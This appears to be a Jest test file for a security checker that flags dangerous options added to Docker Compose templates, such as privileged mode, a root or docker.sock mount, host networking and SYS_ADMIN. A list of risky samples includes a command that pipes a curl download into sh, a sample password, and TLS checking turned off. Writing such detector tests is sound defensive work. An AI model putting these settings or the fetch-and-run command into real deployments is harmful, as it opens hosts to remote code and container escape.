import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const START = 'docker compose up -d\n';
const template = (options = '', mark = '${TAG}'): string =>
  `services:\n  web:\n    image: registry.example.com/app:${mark}\n${options}    environment:\n      A: "1"\n`;

/** How a script makes a compose file of a template, with the name of the template and its mark. */
const WAYS: readonly (readonly [command: string, name: string, mark: string])[] = [
  [`envsubst < compose.tmpl.yml > docker-compose.yml\n${START}`, 'compose.tmpl.yml', '${TAG}'],
  [`envsubst < deploy.tpl > docker-compose.yml\n${START}`, 'deploy.tpl', '${TAG}'],
  [`cat compose.tmpl.yml | envsubst > docker-compose.yml\n${START}`, 'compose.tmpl.yml', '${TAG}'],
  ['envsubst < stack.txt > /tmp/s.yml\ndocker stack deploy -c /tmp/s.yml app\n', 'stack.txt', '${TAG}'],
  [`sed "s/@TAG@/$TAG/" compose.yml.in > docker-compose.yml\n${START}`, 'compose.yml.in', '@TAG@'],
  ['sed "s/@TAG@/$TAG/" compose.yml.in | docker compose -f - up -d\n', 'compose.yml.in', '@TAG@'],
  [`perl -pe 's/@TAG@/1/' compose.in > docker-compose.yml\n${START}`, 'compose.in', '@TAG@'],
  [`gomplate -f compose.yaml.tmpl -o docker-compose.yml\n${START}`, 'compose.yaml.tmpl', '{{ .Env.TAG }}'],
  [`m4 -DTAG=1 compose.m4 > docker-compose.yml\n${START}`, 'compose.m4', 'TAG'],
];

const HARMLESS: readonly string[] = [
  '    labels:\n      a.b: c\n',
  '    labels: [a=b]\n',
  '    # a comment\n',
  '    restart: always\n    depends_on:\n    - db\n',
  '    ports:\n    - "127.0.0.1:8080:80"\n',
  '    ports: ["127.0.0.1:8080:80"]\n',
  '    volumes:\n    - ./data:/data\n    - data:/var/lib/app\n',
  '    security_opt: ["no-new-privileges:true"]\n    cap_drop: [ALL]\n    user: "1000"\n',
  '    cap_drop:\n    - ALL\n    tty: true\n',
  '    deploy:\n      replicas: 2\n',
  '    healthcheck:\n      interval: 5s\n',
];

const DANGERS: readonly string[] = [
  '    privileged: true\n',
  '    volumes:\n    - /:/host\n',
  '    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]\n',
  '    network_mode: host\n',
  '    pid: "host"\n',
  '    cap_add:\n    - SYS_ADMIN\n',
];

/** What is only told where the template is not read as a compose file, or at a lower severity. */
const RISKS: readonly string[] = [
  '    ports:\n    - "6379:6379"\n',
  '    command: sh -c "curl -k https://example.com/x | sh"\n',
  '    user: root\n',
  '    volumes:\n    - ../../../..:/host\n',
];

describe.each(WAYS)('a template of a compose file: %s', (command, name, mark) => {
  const base: Files = { 'up.sh': `#!/bin/sh\n${command}`, [name]: template('', mark) };
  const changed = (options: string) => failuresOf(base, { [name]: template(options, mark) });

  it.each(HARMLESS)('is the same with %j', async (options) => {
    expect(await changed(options)).toEqual([]);
  });

  it.each(DANGERS)('is another one with %j', async (options) => {
    expect(await changed(options)).not.toEqual([]);
  });

  it('is the same with another tag, variable or service, and without a line', async () => {
    const text = template('', mark);
    for (const other of [
      text.replace('app:', 'app:v'),
      `${text}      LOG_LEVEL: debug\n`,
      `# a comment\n${text}`,
      `${text}  db:\n    image: registry.example.com/db:2\n`,
      text.replace('      A: "1"', '      B: "2"'),
    ]) {
      expect(await failuresOf(base, { [name]: other })).toEqual([]);
    }
    const dangerous = template('    privileged: true\n    pid: host\n', mark);
    expect(await failuresOf({ ...base, [name]: dangerous }, { [name]: text })).toEqual([]);
  });
});

describe('a template that nothing reads as a compose file', () => {
  const base: Files = {
    'up.sh': `#!/bin/sh\nsed "s/@TAG@/$TAG/" compose.in > compose.yaml\n${START}`,
    'compose.in': template('', '@TAG@'),
  };

  it.each([
    ...RISKS,
    '    environment:\n      DB_PASSWORD: q8Zr2LmP0xVt7KcW\n',
    '    environment: [POSTGRES_PASSWORD=postgres]\n',
    '    environment:\n      NODE_TLS_REJECT_UNAUTHORIZED: "0"\n',
    '    privileged: "@PRIV@"\n',
  ])('is another one with %j', async (options) => {
    expect(await failuresOf(base, { 'compose.in': template(options, '@TAG@') })).toEqual(['undecided-reference']);
  });

  it('is told again where a service more has what another one has', async () => {
    const [one, two] = ['a', 'b'].map((name) => `  ${name}:\n    privileged: true\n`);
    const before = { ...base, 'compose.in': `services:\n${one}  b:\n    init: true\n` };
    expect(await failuresOf(before, { 'compose.in': `services:\n${one}${two}` })).toEqual(['undecided-reference']);
    expect(await failuresOf(before, { 'compose.in': `services:\n${one}  c:\n    init: true\n` })).toEqual([]);
  });
});

it('is another one with a value of its variables that takes protection away', async () => {
  const files = (data: string): Files => ({
    'up.sh': `#!/bin/sh\nexport DATA=${data}\nenvsubst < compose.in > compose.yaml\n${START}`,
    'compose.in': template('    volumes:\n    - ${DATA}:/data\n'),
  });
  expect(await failuresOf(files('./data'), files('/'))).toEqual(['undecided-reference']);
  expect(await failuresOf(files('./data'), files('./storage'))).toEqual([]);
});

it('is a template that is not YAML', async () => {
  const base: Files = { 'compose.tmpl.yml': template('    command: @COMMAND@\n') };
  expect(
    await failuresOf(base, { 'compose.tmpl.yml': template('    command: @COMMAND@\n    labels: {a: b}\n') }),
  ).toEqual([]);
  expect(
    await failuresOf(base, { 'compose.tmpl.yml': template('    command: @COMMAND@\n    privileged: true\n') }),
  ).toEqual(['template']);
});

it.each([
  ['the keys of a service behind a mapping', '  db: {image: a,\n    labels: {a: b}', ', privileged: true'],
  ['the network of the host', '    labels: {a: b}', '\nnetworks:\n  default:\n    name: host\n    external: true'],
  ['it in braces', '    labels: {a: b}', '\nnetworks:\n  default: {name: host, external: true}'],
])('is another one with %s, where it is not YAML', async (_name, before, danger) => {
  const text = (more: string): string => `${template('    command: @COMMAND@\n')}${before}${more}\n`;
  const base: Files = { 'compose.tmpl.yml': text('') };
  expect(await failuresOf(base, { 'compose.tmpl.yml': text(danger) })).toEqual(['template']);
  expect(await failuresOf(base, { 'compose.tmpl.yml': text('  # a comment') })).toEqual([]);
});
